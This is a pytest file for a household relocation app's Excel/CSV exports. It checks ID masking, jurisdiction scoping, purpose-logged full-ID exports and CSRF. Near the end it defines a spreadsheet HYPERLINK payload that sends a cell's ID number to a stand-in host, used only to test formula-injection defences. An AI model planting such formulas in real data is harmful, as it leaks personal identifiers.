"""Lists to Excel/CSV: filtered as on screen, the user's jurisdiction only, masked IDs."""

from __future__ import annotations

import csv
import io
import re
import zipfile

from openpyxl import load_workbook
from sqlalchemy import func, select

from tests.conftest import NOW, csrf_from, login
from transfers.cases.services import open_intake
from transfers.privacy.models import AccessLog
from transfers.privacy.services import verify_access_log
from transfers.supervision.excel import workbook
from workflows.roles import Role


def sheet(resp):  # type: ignore[no-untyped-def]
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    return list(load_workbook(io.BytesIO(resp.data)).active.iter_rows(values_only=True))


def test_exports_are_scoped_masked_and_filtered(client, make_user, make_household, db, geo):
    staff = make_user(Role.VILLAGE_STAFF, "411221100201")
    mine = make_household()
    theirs = make_household(
        origin="140827203201", destination="411221100202", settlement_mode="scattered"
    )
    open_intake(household=mine, requests=[(mine.members[0], "hukou")], actor=staff, now=NOW)
    db.session.commit()
    login(client, staff)

    rows = sheet(client.get("/exports/households.xlsx"))
    # the import's layout: one row per person
    assert rows[0][:3] == ("户编号", "姓名", "身份证号码")
    assert len(rows) == 1 + len(mine.members)  # the other village's household is not here
    number = mine.members[0].id_number
    assert rows[1][2] == number[:6] + "********" + number[-4:]
    assert number not in str(rows)
    assert theirs.members[0].id_number[-4:] not in str(rows[1][2])
    assert client.get("/exports/households.xlsx").headers["Cache-Control"] == "no-store"
    assert len(sheet(client.get("/exports/households.xlsx?q=nobody"))) == 1

    tasks = sheet(client.get("/exports/tasks.xlsx?procedure=hukou"))
    assert tasks[0][0] == "序号" and len(tasks) == 2 and tasks[1][1] == "户口迁移"
    assert tasks[1][3] == "王*国"
    assert len(sheet(client.get("/exports/tasks.xlsx?q=nobody"))) == 1

    cases = sheet(client.get("/exports/cases.xlsx"))
    assert len(cases) == 2 and cases[1][1].startswith("411221-")

    csv_resp = client.get("/exports/households.csv")
    text = csv_resp.data.decode("utf-8-sig")
    assert csv_resp.mimetype == "text/csv" and text.splitlines()[0].startswith("户编号,姓名")
    assert client.get("/exports/overdue.xlsx").status_code == 403
    assert client.get("/exports/nothing.xlsx").status_code == 404


def test_overdue_export_for_supervisors(client, make_user, make_household, db, geo):
    staff = make_user(Role.VILLAGE_STAFF, "411221100201")
    lead = make_user(Role.TOWNSHIP_SUPERVISOR, "411221100")
    hh = make_household()
    open_intake(household=hh, requests=[(hh.members[0], "hukou")], actor=staff, now=NOW)
    db.session.commit()
    login(client, lead)
    rows = sheet(client.get("/exports/overdue.xlsx"))
    # NOW is in the past: the 10-working-day limit from 2026-11-02 has run out
    assert len(rows) == 2 and rows[1][7].startswith("超期")


def _full_export(client, url: str, purpose: str):  # type: ignore[no-untyped-def]
    """The purpose form a GET of a full-ID export answers, then its POST."""
    form = client.get(url)
    assert form.status_code == 200 and form.mimetype == "text/html"
    assert form.headers["Cache-Control"] == "no-store"
    html = form.get_data(as_text=True)
    return html, client.post(url, data={"csrf_token": csrf_from(html), "purpose": purpose})


def test_full_id_export_asks_a_purpose_and_logs_one_entry(
    client, make_user, make_household, db, geo
):
    staff = make_user(Role.VILLAGE_STAFF, "411221100201")
    mine = make_household(members=3)
    other_township = make_household(
        origin="411203105201", destination="411221101201", settlement_mode="scattered"
    )
    open_intake(household=mine, requests=[(mine.members[0], "hukou")], actor=staff, now=NOW)
    db.session.commit()
    login(client, staff)
    logged = select(func.count()).select_from(AccessLog)

    for url in ("/exports/households.csv?ids=full", "/exports/cases.xlsx?ids=full&open=1"):
        html, refused = _full_export(client, url, purpose="")
        assert "导出事由" in html and mine.members[0].id_number not in html
        assert refused.status_code == 422 and refused.mimetype == "text/html"
        assert db.session.scalar(logged) == 0  # no purpose: no file, nothing recorded

    _html, resp = _full_export(client, "/exports/households.csv?ids=full", purpose="hukou")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert resp.headers["Cache-Control"] == "no-store"
    text = resp.data.decode("utf-8-sig")
    assert all(p.id_number in text for p in mine.members)
    assert other_township.members[0].id_number not in text  # another township's household
    entry = db.session.scalars(select(AccessLog)).one()  # ONE entry for the whole file
    assert entry.actor_id == staff.id and entry.person_id is None
    assert sorted(entry.person_ids) == sorted(p.id for p in mine.members)
    assert entry.purpose.startswith("办理户口迁移")

    _html, cases = _full_export(client, "/exports/cases.xlsx?ids=full", purpose="correction")
    assert sheet(cases)[1][4] == mine.members[0].id_number
    last = db.session.scalars(select(AccessLog).order_by(AccessLog.id.desc())).first()
    assert last.person_id == mine.members[0].id and db.session.scalar(logged) == 2
    assert last.field == "id_number"

    _html, tasks = _full_export(client, "/exports/tasks.xlsx?ids=full", purpose="hukou")
    assert sheet(tasks)[1][3] == mine.members[0].name  # whole names, no ID column
    last = db.session.scalars(select(AccessLog).order_by(AccessLog.id.desc())).first()
    assert (last.field, last.person_id) == ("name", mine.members[0].id)
    assert verify_access_log() == (3, [])


def test_full_ids_cannot_be_fetched_by_a_plain_get(client, make_user, make_household, db, geo):
    staff = make_user(Role.VILLAGE_STAFF, "411221100201")
    hh = make_household()
    login(client, staff)
    for url in (
        "/exports/households.xlsx?ids=full&purpose=hukou",
        "/exports/cases.csv?ids=full&purpose=hukou",
    ):
        resp = client.get(url)
        assert resp.mimetype == "text/html" and hh.members[0].id_number not in resp.get_data(
            as_text=True
        )
    # a POST without the form's token is refused, nothing recorded
    resp = client.post("/exports/households.xlsx?ids=full", data={"purpose": "hukou"})
    assert resp.status_code in (400, 422) and resp.mimetype == "text/html"
    assert db.session.scalar(select(func.count()).select_from(AccessLog)) == 0


EVIL = '=HYPERLINK("//e.example/?"&C2,"点此")'  # fits a name (40 characters)


def _formulas(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        return [f for n in sheets for f in re.findall(r"<f>.*?</f>", z.read(n).decode())]


def test_a_formula_typed_as_a_name_is_exported_as_text(client, make_user, make_household, db):  # type: ignore[no-untyped-def]
    staff = make_user(Role.VILLAGE_STAFF, "411221100201")
    hh = make_household()
    hh.members[0].name = EVIL
    db.session.commit()
    login(client, staff)
    resp = client.get("/exports/households.xlsx")
    assert resp.status_code == 200 and _formulas(resp.data) == []
    cell = load_workbook(io.BytesIO(resp.data)).active["B2"]
    assert cell.value.startswith("=") and cell.data_type == "s"
    text = client.get("/exports/households.csv").data.decode("utf-8-sig")
    name = next(csv.reader(io.StringIO(text.splitlines()[1])))[1]
    assert name.startswith("'=")


def test_supervision_workbooks_write_formula_like_text_as_text():  # type: ignore[no-untyped-def]
    out = workbook([("台账", "标题", ["姓名", "电话", "数"], [[EVIL, "-", -3]])]).getvalue()
    assert _formulas(out) == []
    ws = load_workbook(io.BytesIO(out)).active
    assert [c.value for c in ws[3]] == [1, EVIL, "-", -3]
    assert ws["B3"].data_type == "s" and ws["B3"].quotePrefix and ws["D3"].data_type == "n"
